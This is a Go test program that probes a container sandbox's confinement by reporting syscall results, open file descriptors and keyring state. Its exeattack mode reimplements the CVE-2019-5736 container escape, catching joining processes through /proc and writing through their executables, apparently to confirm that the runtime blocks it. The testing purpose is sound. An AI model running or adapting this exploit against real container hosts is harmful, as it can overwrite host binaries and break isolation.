// Command hardenprobe is a static test program copied into test containers to check the
// confinement promises busybox cannot check (see docs/security.md):
//
//	hardenprobe syscalls         prints key=value lines: what keyctl, unshare, mount, clone3,
//	                             setns return, and the Seccomp field of /proc/self/status
//	hardenprobe fds              prints "fds=0,1,2": the open fds of this process
//	hardenprobe keyring          prints "session=ID", the serial of the session keyring
//	hardenprobe exeattack FILE   until FILE exists: catches every other process of the
//	                             container, holds an O_PATH fd of its /proc/PID/exe, and tries
//	                             to write through each; then prints the results
package main

import (
	"errors"
	"fmt"
	"os"
	"sort"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: hardenprobe syscalls | keyring | exeattack FILE")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "syscalls":
		if os.Getenv("HARDENPROBE_IN_CONTAINER") != "1" {
			fmt.Fprintln(os.Stderr, "hardenprobe syscalls tries mount and unshare: run it only in a test container (HARDENPROBE_IN_CONTAINER=1)")
			os.Exit(2)
		}
		syscalls()
	case "keyring":
		id, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, false)
		if err != nil {
			fmt.Printf("session=%v\n", errName(err))
			return
		}
		fmt.Printf("session=%d\n", id)
	case "fds":
		fds()
	case "exeattack":
		exeattack(os.Args[2])
	default:
		fmt.Fprintln(os.Stderr, "unknown probe", os.Args[1])
		os.Exit(2)
	}
}

func errName(err error) string {
	var e unix.Errno
	if errors.As(err, &e) {
		return unix.ErrnoName(e)
	}
	if err == nil {
		return "ok"
	}
	return err.Error()
}

func syscalls() {
	_, _, e := unix.Syscall(unix.SYS_KEYCTL, unix.KEYCTL_JOIN_SESSION_KEYRING, 0, 0)
	fmt.Printf("keyctl=%s\n", errName(errOrNil(e)))
	_, _, e = unix.Syscall(unix.SYS_ADD_KEY, 0, 0, 0)
	fmt.Printf("add_key=%s\n", errName(errOrNil(e)))
	fmt.Printf("unshare=%s\n", errName(unix.Unshare(unix.CLONE_NEWUSER)))
	// On a fresh directory, and undone at once if it worked: this must never cover anything.
	dir, err := os.MkdirTemp("", "hardenprobe-mnt")
	if err != nil {
		fmt.Printf("mount=mkdir: %v\n", err)
	} else {
		err := unix.Mount("none", dir, "tmpfs", 0, "")
		if err == nil {
			_ = unix.Unmount(dir, unix.MNT_DETACH)
		}
		fmt.Printf("mount=%s\n", errName(err))
		_ = os.Remove(dir)
	}
	_, _, e = unix.Syscall(unix.SYS_CLONE3, 0, 0, 0)
	fmt.Printf("clone3=%s\n", errName(errOrNil(e)))
	fmt.Printf("setns=%s\n", errName(unix.Setns(0, unix.CLONE_NEWNET)))
	b, _ := os.ReadFile("/proc/self/status")
	for _, l := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(l, "Seccomp:"); ok {
			fmt.Printf("seccomp=%s\n", strings.TrimSpace(v))
		}
	}
}

func errOrNil(e unix.Errno) error {
	if e == 0 {
		return nil
	}
	return e
}

// exeattack is the CVE-2019-5736 attack: a process joining the container (the exec helper) is
// caught through /proc, its executable held by an O_PATH fd, and written through that fd.
func exeattack(stop string) {
	self := os.Getpid()
	held := map[int]int{}     // pid -> O_PATH fd of its exe
	links := map[string]int{} // exe link -> count
	results := map[string]int{}
	try := func(fd int) {
		w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY, 0)
		if err != nil {
			results["open:"+errName(err)]++
			return
		}
		_, err = unix.Pwrite(w, []byte("pwned"), 0)
		results["write:"+errName(err)]++
		unix.Close(w)
	}
	for {
		if _, err := os.Stat(stop); err == nil {
			break
		}
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == self || pid == 1 || held[pid] != 0 {
				continue
			}
			fd, err := unix.Open("/proc/"+e.Name()+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			l, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
			if strings.HasSuffix(l, "/busybox") || strings.HasSuffix(l, "/hardenprobe") {
				unix.Close(fd) // the container's own programs, not a joining process
				held[pid] = -1
				continue
			}
			held[pid] = fd
			links[l]++
			try(fd)
		}
	}
	// Once more after the joining processes are gone: the original attack waits for the
	// binary to stop running (no ETXTBSY) before writing.
	for _, fd := range held {
		if fd > 0 {
			try(fd)
		}
	}
	var out []string
	for l, n := range links {
		out = append(out, fmt.Sprintf("exe %q %d", l, n))
	}
	for r, n := range results {
		out = append(out, fmt.Sprintf("result %s %d", r, n))
	}
	sort.Strings(out)
	fmt.Println(strings.Join(out, "\n"))
}

// fds lists /proc/self/fd with raw syscalls: os.ReadDir would start Go's netpoller and add its
// own fds to the list.
func fds() {
	dir, err := unix.Open("/proc/self/fd", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		fmt.Printf("fds=%v\n", err)
		return
	}
	buf := make([]byte, 8192)
	var names []string
	for {
		n, err := unix.Getdents(dir, buf)
		if err != nil || n <= 0 {
			break
		}
		_, _, got := unix.ParseDirent(buf[:n], -1, nil)
		names = append(names, got...)
	}
	var out []int
	for _, n := range names {
		if fd, err := strconv.Atoi(n); err == nil && fd != dir {
			out = append(out, fd)
		}
	}
	sort.Ints(out)
	s := make([]string, len(out))
	for i, fd := range out {
		s[i] = strconv.Itoa(fd)
	}
	fmt.Printf("fds=%s\n", strings.Join(s, ","))
}
